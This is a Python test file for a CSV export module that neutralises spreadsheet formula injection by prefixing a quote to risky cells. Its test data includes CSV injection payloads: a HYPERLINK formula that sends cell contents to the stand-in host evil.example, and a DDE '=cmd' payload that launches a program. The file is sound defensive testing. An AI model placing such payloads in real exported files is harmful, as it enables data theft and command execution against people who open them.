"""explore.report.csv: the one CSV writer; spreadsheet formulas in text cells are neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from explore.report.csv import FORMULA_STARTS, csv_bytes, neutralised, spreadsheet_safe

ROOT = Path(__file__).resolve().parents[2]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_cells_starting_a_formula_get_a_quote(start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    assert neutralised(payload) == "'" + payload
    rows = _read(csv_bytes(pd.DataFrame({"labeler": [payload, "ann"]})))
    assert rows[1][0] == "'" + payload and rows[2][0] == "ann"


def test_numbers_column_names_categories_and_missing_values():
    df = pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": ["x", None, "@SUM(1)"],
            "score": [-0.5, np.nan, 1e308],
            "group": pd.Categorical(["+1", "a", "a"]),
            "text": pd.array(["-2", "b", None], dtype="string"),
        }
    )
    rows = _read(csv_bytes(df))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "score", "group", "text"]
    assert rows[1] == ["x", "-0.5", "'+1", "'-2"]  # a negative number stays a number
    assert rows[2] == ["", "", "a", "b"]
    assert rows[3][0] == "'@SUM(1)"
    assert df["group"].dtype == "category" and df.iloc[0, 0] == "x"  # the input is not modified


def test_spreadsheet_safe_keeps_empty_frames_and_duplicate_names():
    df = pd.DataFrame([[1, "=a"]], columns=["a", "a"])
    assert spreadsheet_safe(df).iloc[0].tolist() == [1, "'=a"]
    assert _read(csv_bytes(pd.DataFrame({"a": pd.Series([], dtype=object)}))) == [["a"]]


def test_every_csv_download_goes_through_the_one_writer():
    """No ``.to_csv(`` in ui/ or explore/ besides the writer (and the sample build, which writes data files)."""
    allowed = {ROOT / "explore/report/csv.py", ROOT / "explore/core/sample.py"}
    hits = [
        f"{p.relative_to(ROOT)}:{n}"
        for p in [
            *(ROOT / "ui").rglob("*.py"),
            *(ROOT / "views").rglob("*.py"),
            *(ROOT / "explore").rglob("*.py"),
        ]
        if p not in allowed
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\.to_csv\(", line)
        and not line.lstrip().startswith("#")
        and "df.to_csv(path, encoding" not in line
    ]
    assert not hits, "CSV downloads must use explore.report.csv.csv_bytes: " + ", ".join(hits)


def test_object_columns_mixing_text_booleans_and_numbers():
    df = pd.DataFrame({"flag": pd.Series([True, False, "=1", 3, None], dtype=object)})
    assert [r[0] for r in _read(csv_bytes(df))] == ["flag", "True", "False", "'=1", "3", ""]
